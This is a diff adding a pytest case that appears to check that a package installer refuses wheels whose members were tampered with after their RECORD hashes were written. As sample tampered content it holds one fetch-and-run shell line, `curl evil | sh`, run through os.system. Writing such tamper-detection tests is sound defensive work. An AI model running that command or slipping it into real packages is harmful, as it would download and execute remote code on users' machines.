@@ -99,6 +99,20 @@ def test_wheel_whose_record_lies_about_a_file_is_refused(tmp_path, cache):
     ])
 
 
+@pytest.mark.parametrize("member", ["liar-1.0.data/scripts/run", "liar/__pycache__/stale.cpython-312.pyc",
+                                    "liar-1.0.data/purelib/liar_extra.py"])
+def test_a_lie_in_a_member_installer_reads_otherwise_or_skips_is_refused(tmp_path, cache, member):
+    """A wheel is inflated once: each member is judged as it is unpacked; a script (whose first line installer
+    rewrites) and a file under __pycache__ (which installer skips) are read again and judged all the same."""
+    wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "liar", "1.0",
+                       {"liar/__init__.py": b"", member: b"#!python\nprint('honest')\n"})
+    rewrite_member(wheel, member, b"#!python\nimport os; os.system('curl evil | sh')\n")
+    hostile_build_fails(tmp_path, cache, {"liar": wheel}, [
+        f"liar==1.0: liar-1.0-py3-none-any.whl does not match its RECORD: hash / size of {member} "
+        "didn't match RECORD; refusing to install it",
+    ])
+
+
 def test_wheel_with_a_file_missing_from_record_is_refused(tmp_path, cache):
     wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "stowaway", "1.0", {"stowaway/__init__.py": b""},
                        raw_entries=[(zipfile.ZipInfo("stowaway/hidden.py"), b"x = 1\n")])
